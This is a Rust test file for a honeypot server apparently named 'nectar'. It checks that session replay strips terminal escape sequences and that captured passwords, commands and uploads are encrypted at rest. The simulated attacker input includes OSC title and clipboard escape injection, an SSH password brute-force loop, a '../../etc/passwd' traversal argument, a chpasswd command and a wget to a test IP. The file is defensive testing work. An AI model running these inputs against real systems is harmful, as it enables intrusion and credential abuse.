//! What honeypot sessions leave on disk, end to end: a real OpenSSH session against
//! `nectar serve`, then `nectar replay` of its recording.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::util::{Server, nectar};

/// Whether `tool` runs; panics under CI when it does not.
pub fn have(tool: &str, probe: &[&str]) -> bool {
    let ok = Command::new(tool)
        .args(probe)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok();
    if !ok && std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("{tool} is needed by this test (see .ci/run)");
    }
    if !ok {
        eprintln!("skipping: {tool} not installed");
    }
    ok
}

/// An interactive OpenSSH session with a terminal, `input` typed after login.
pub fn openssh_shell(addr: &str, user: &str, password: &str, input: &[u8]) -> String {
    let (host, port) = addr.rsplit_once(':').unwrap();
    let mut child = Command::new("timeout")
        .args(["30", "sshpass", "-p", password, "ssh", "-tt"])
        .args(["-o", "StrictHostKeyChecking=no"])
        .args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"])
        .args(["-o", "PubkeyAuthentication=no", "-p", port])
        .arg(format!("{user}@{host}"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::thread::sleep(Duration::from_secs(2));
    stdin.write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every event of the data directory's JSON-lines log.
pub fn logged_events(dir: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(dir.join("events.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn replay_plays_a_recorded_session_without_its_dangerous_escapes() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let mut server = Server::start(&data, None);
    let ssh = server.ssh_addr.clone().expect("the SSH honeypot runs");
    let typed = b"printf '\\e]0;owned\\a\\e]52;c;ZXZpbA==\\a\\e[31mRED\\e[0m\\n'\nexit\n";
    let shown = openssh_shell(&ssh, "root", "123456", typed);
    assert!(shown.contains("\x1b[31mRED"), "{shown}");
    assert!(server.sigterm().success());

    let events = logged_events(&data);
    let close = events
        .iter()
        .find(|e| e["kind"] == "session.close" && e["data"]["recording"].is_string())
        .expect("a session.close event naming its recording");
    let session = close["data"]["session"].as_str().unwrap();
    let relative = close["data"]["recording"].as_str().unwrap();
    assert!(data.join(relative).is_file());

    let out = nectar(&data, &["replay", "--speed", "1000", session]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let played = String::from_utf8_lossy(&out.stdout);
    assert!(played.contains("\x1b[31mRED\x1b[0m"), "{played:?}");
    // The typed command is echoed, but no OSC (title, clipboard) reaches stdout.
    assert!(!played.contains("\x1b]"), "{played:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--raw"));

    // By path, raw: byte for byte, title sequence included.
    let path = data.join(relative);
    let out = nectar(
        &data,
        &["replay", "--raw", "--max-idle", "0", path.to_str().unwrap()],
    );
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("\x1b]0;owned\x07"));

    // The session page shows the terminal output as text: no escape sequence,
    // under the CSP, escaped.
    let server = Server::start(&data, None);
    let client = crate::util::client();
    let password = std::fs::read_to_string(data.join("initial-admin-password")).unwrap();
    let cookie = crate::web::login(&client, &server.url, "admin", password.trim());
    let page = client
        .get(format!("{}/sessions/{session}", server.url))
        .header("cookie", cookie)
        .send()
        .unwrap()
        .text()
        .unwrap();
    let terminal = page
        .split("<pre class=\"terminal\">")
        .nth(1)
        .and_then(|rest| rest.split("</pre>").next())
        .unwrap_or_else(|| panic!("no terminal section: {page}"));
    assert!(terminal.contains("\nRED\n"), "{terminal}");
    assert!(!page.contains('\x1b'));
    drop(server);

    // Mistakes: exit 2 and a message naming what to fix.
    for (args, word) in [
        (&["replay", "nosuchsession"][..], "nosuchsession"),
        (&["replay", "--speed", "0", session], "--speed"),
        (&["replay", "../../etc/passwd.cast"], "no such recording"),
    ] {
        let out = nectar(&data, args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(word),
            "{args:?}"
        );
    }
}

/// Every file under `dir`, recursively.
fn all_files(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            all_files(&path, out);
        } else {
            out.push(path);
        }
    }
}

/// One failed Telnet login (raw socket, no option negotiation).
fn telnet_login(addr: std::net::SocketAddr, user: &str, password: &str) {
    use std::io::Read;
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut seen = Vec::new();
    let mut buf = [0u8; 512];
    let mut wait_for = |s: &mut std::net::TcpStream, word: &[u8]| {
        while !seen.windows(word.len()).any(|w| w == word) {
            match s.read(&mut buf) {
                Ok(0) | Err(_) => return,
                Ok(n) => seen.extend_from_slice(&buf[..n]),
            }
        }
        seen.clear();
    };
    wait_for(&mut s, b"login: ");
    s.write_all(format!("{user}\r\n").as_bytes()).unwrap();
    wait_for(&mut s, b"assword: ");
    s.write_all(format!("{password}\r\n").as_bytes()).unwrap();
    wait_for(&mut s, b"incorrect");
}

/// With `encrypt_to`, the dashboard and `/api/v1/summary` say how many passwords
/// and commands are sealed (they cannot rank them) instead of showing nothing.
fn sealed_values_are_counted_on_the_dashboard(server: &Server, data: &Path) {
    let token = crate::util::token(data, "sealed-counts", "viewer");
    let client = crate::util::client();
    // Ranked values reach the table about once a second.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let summary = loop {
        let summary: serde_json::Value = client
            .get(format!("{}/api/v1/summary", server.url))
            .bearer_auth(&token)
            .send()
            .unwrap()
            .json()
            .unwrap();
        // Six SSH logins (five refused, one accepted) and one Telnet login at
        // least; four typed commands.
        if summary["sealed_passwords"].as_i64() >= Some(7)
            && summary["sealed_commands"].as_i64() >= Some(4)
        {
            break summary;
        }
        assert!(std::time::Instant::now() < deadline, "{summary}");
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(summary["top_passwords"], serde_json::json!([]), "{summary}");
    assert_eq!(summary["top_commands"], serde_json::json!([]), "{summary}");
    let cookie = crate::util::web_login(server, data);
    let page = client
        .get(format!("{}/", server.url))
        .header("cookie", cookie)
        .send()
        .unwrap()
        .text()
        .unwrap();
    let passwords = summary["sealed_passwords"].as_i64().unwrap_or_default();
    assert!(
        page.contains(&format!("{passwords} passwords encrypted")),
        "{page}"
    );
    assert!(page.contains("commands encrypted"), "{page}");
    assert!(page.contains("once the server has the identity"), "{page}");
}

#[test]
fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let key = dir.path().join("identity.txt");
    let out = nectar(&data, &["age-keygen", "--output", key.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    let public = stderr
        .split_whitespace()
        .find(|w| w.starts_with("age1"))
        .expect("the public key on stderr")
        .to_owned();
    let accepted = "Tr0ub4dor-ok-71";
    let config = dir.path().join("nectar.toml");
    std::fs::write(
        &config,
        format!(
            "[honeypot]\nencrypt_to = \"{public}\"\n[honeypot.ssh]\ncredentials = [\"root:{accepted}\"]\n[honeypot.telnet]\ncredentials = [\"root:{accepted}\"]\n[honeypot.cowrie]\nenabled = true\n"
        ),
    )
    .unwrap();
    let mut server = Server::start(&data, Some(&config));
    let ssh = server.ssh_addr.clone().unwrap();
    let (host, port) = ssh.rsplit_once(':').unwrap();
    // A brute force: five refused passwords, each on its own connection.
    let refused: Vec<String> = (1..=5).map(|i| format!("Brute-{i}-q7Zx")).collect();
    for password in &refused {
        let out = Command::new("timeout")
            .args(["20", "sshpass", "-p", password, "ssh"])
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
            ])
            .args(["-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"])
            .args(["-o", "NumberOfPasswordPrompts=1", "-p", port])
            .arg(format!("root@{host}"))
            .arg("true")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(!out.status.success());
    }
    let telnet_password = "Telnet-pw-8kLm";
    telnet_login(
        server.telnet.expect("the Telnet honeypot runs"),
        "root",
        telnet_password,
    );
    let http_password = "Http-pw-3vQx";
    let http = server
        .printed_after("HTTP honeypot listening on ")
        .expect("the HTTP honeypot runs");
    let answer = crate::util::client()
        .post(format!("http://{}/wp-login.php", http.trim()))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("log=admin&pwd={http_password}&wp-submit=Log+In"))
        .send()
        .unwrap();
    assert_eq!(answer.status(), 200);
    // Credentials outside a form: Basic auth, and a password in a query string.
    let basic_password = "Basic-pw-7Tzq";
    let query_password = "Query-pw-5Rbn";
    crate::util::client()
        .get(format!("http://{}/admin/", http.trim()))
        .basic_auth("admin", Some(basic_password))
        .send()
        .unwrap();
    crate::util::client()
        .get(format!(
            "http://{}/login.php?user=admin&password={query_password}",
            http.trim()
        ))
        .send()
        .unwrap();
    // A session with the accepted password: recorded, and a file written; a typed
    // command carries a password, a download URL a token.
    let command_password = "Cmd-pw-4Hs9";
    let url_token = "Url-tok-6Pw2";
    let typed = format!(
        "echo Upl0ad-marker > /tmp/m.sh\necho root:{command_password} | chpasswd\nwget -q http://198.51.100.9/x?token={url_token}\nexit\n"
    );
    let shown = openssh_shell(&ssh, "root", accepted, typed.as_bytes());
    assert!(shown.contains("root@"), "{shown}");
    sealed_values_are_counted_on_the_dashboard(&server, &data);
    assert!(server.sigterm().success());

    let mut secrets: Vec<&str> = refused.iter().map(String::as_str).collect();
    secrets.push(accepted);
    secrets.push(telnet_password);
    secrets.push(http_password);
    secrets.push(basic_password);
    let mut files = Vec::new();
    all_files(&data, &mut files);
    files.push(data.with_extension("stderr.log"));
    assert!(files.iter().any(|f| f.ends_with("nectar.db")));
    assert!(files.iter().any(|f| f.ends_with("cowrie.json")));
    for file in &files {
        let bytes = std::fs::read(file).unwrap();
        for secret in secrets
            .iter()
            .chain([&query_password, &command_password, &url_token])
        {
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "{secret} in clear in {}",
                file.display()
            );
        }
    }

    let events = logged_events(&data);
    let failed: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "ssh.login.failed")
        .collect();
    assert_eq!(failed.len(), 5);
    for e in &failed {
        assert!(e["data"]["password_enc"].is_string() && e["data"].get("password").is_none());
        assert_eq!(e["summary"], "root/(encrypted) refused");
    }
    // The identity gives every password back.
    let log = data.join("events.jsonl");
    let out = nectar(
        &data,
        &[
            "decrypt",
            "--identity",
            key.to_str().unwrap(),
            log.to_str().unwrap(),
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let clear = String::from_utf8_lossy(&out.stdout);
    for secret in &secrets {
        assert!(
            clear.contains(&format!("\"password\":\"{secret}\"")),
            "{secret} not decrypted"
        );
    }
    assert!(
        clear.contains(&format!(
            "\"query\":\"user=admin&password={query_password}\""
        )),
        "the query string not decrypted"
    );
    assert!(
        clear.contains(&format!(
            "\"input\":\"echo root:{command_password} | chpasswd\""
        )),
        "the typed command not decrypted"
    );
    assert!(
        clear.contains(&format!(
            "\"url\":\"http://198.51.100.9/x?token={url_token}\""
        )),
        "the download URL not decrypted"
    );
    let typed_event = events
        .iter()
        .find(|e| e["kind"] == "ssh.command" && e["data"]["input_enc"].is_string())
        .expect("a sealed command");
    assert!(typed_event["data"].get("input").is_none());
    assert_eq!(typed_event["summary"], "root: (encrypted)");

    // The Cowrie-format log too.
    let cowrie = data.join("cowrie.json");
    let out = nectar(
        &data,
        &[
            "decrypt",
            "-i",
            key.to_str().unwrap(),
            cowrie.to_str().unwrap(),
        ],
    );
    assert!(out.status.success());
    let clear = String::from_utf8_lossy(&out.stdout);
    assert!(
        clear.contains(&format!("\"password\":\"{}\"", refused[0])),
        "{clear}"
    );
    assert!(
        clear.contains(&format!(
            "\"input\":\"echo root:{command_password} | chpasswd\""
        )),
        "{clear}"
    );

    // The recording is an age file; replay needs the identity.
    let close = events
        .iter()
        .find(|e| e["kind"] == "session.close" && e["data"]["recording"].is_string())
        .unwrap();
    let recording = close["data"]["recording"].as_str().unwrap();
    assert!(recording.ends_with(".cast.age"), "{recording}");
    let session = close["data"]["session"].as_str().unwrap();
    let out = nectar(&data, &["replay", session]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--identity"));
    let out = nectar(
        &data,
        &[
            "replay",
            "--speed",
            "1000",
            "--identity",
            key.to_str().unwrap(),
            session,
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("echo Upl0ad-marker"));

    // The upload: stored encrypted, its SHA-256 that of the plaintext.
    let upload = events.iter().find(|e| e["kind"] == "ssh.upload").unwrap();
    let file = data.join(upload["data"]["file"].as_str().unwrap());
    assert!(file.to_str().unwrap().ends_with(".age"));
    let on_disk = std::fs::read(&file).unwrap();
    assert!(!on_disk.windows(6).any(|w| w == b"Upl0ad"));
    let out = nectar(
        &data,
        &[
            "decrypt",
            "-i",
            key.to_str().unwrap(),
            file.to_str().unwrap(),
        ],
    );
    assert_eq!(out.stdout, b"Upl0ad-marker\n");
    use sha2::Digest;
    let sha = sha2::Sha256::digest(&out.stdout);
    let hex: String = sha.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(upload["data"]["sha256"], hex.as_str());

    // The API shows passwords only to a server given the identity.
    let token = crate::util::token(&data, "reader", "viewer");
    let failed_via_api = |server: &Server| {
        let body: serde_json::Value = crate::util::client()
            .get(format!(
                "{}/api/v1/events?kind=ssh.login.failed&limit=1",
                server.url
            ))
            .bearer_auth(&token)
            .send()
            .unwrap()
            .json()
            .unwrap();
        body["events"][0]["data"].clone()
    };
    let chpasswd_via_api = |server: &Server| {
        let body: serde_json::Value = crate::util::client()
            .get(format!("{}/api/v1/events?kind=ssh.command", server.url))
            .bearer_auth(&token)
            .send()
            .unwrap()
            .json()
            .unwrap();
        body["events"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["data"].clone())
            .collect::<Vec<_>>()
    };
    // The session page of the session that typed the command.
    let typed_session = typed_event["data"]["session"].as_str().unwrap().to_owned();
    let session_page = |server: &Server| {
        let cookie = crate::util::web_login(server, &data);
        let answer = crate::util::client()
            .get(format!("{}/sessions/{typed_session}", server.url))
            .header("cookie", cookie)
            .send()
            .unwrap();
        assert_eq!(answer.status(), 200);
        answer.text().unwrap()
    };
    let mut plain = Server::start(&data, None);
    let page = session_page(&plain);
    assert!(page.contains("(encrypted)"), "{page}");
    assert!(!page.contains(command_password), "{page}");
    let shown = failed_via_api(&plain);
    assert!(shown.get("password").is_none() && shown["password_enc"].is_string());
    let commands = chpasswd_via_api(&plain);
    assert!(!commands.is_empty());
    assert!(
        commands
            .iter()
            .all(|c| c.get("input").is_none() && c["input_enc"].is_string())
    );
    assert!(plain.sigterm().success());
    let with_key = dir.path().join("with-key.toml");
    std::fs::write(
        &with_key,
        format!("[server]\nidentity = \"{}\"\n", key.display()),
    )
    .unwrap();
    let mut keyed = Server::start(&data, Some(&with_key));
    let shown = failed_via_api(&keyed);
    assert!(
        refused.iter().any(|p| shown["password"] == p.as_str()),
        "{shown}"
    );
    let page = session_page(&keyed);
    assert!(
        page.contains(&format!("echo root:{command_password} | chpasswd")),
        "{page}"
    );
    let commands = chpasswd_via_api(&keyed);
    let chpasswd = format!("echo root:{command_password} | chpasswd");
    assert!(
        commands.iter().any(|c| c["input"] == chpasswd.as_str()),
        "{commands:?}"
    );
    assert!(keyed.sigterm().success());
}
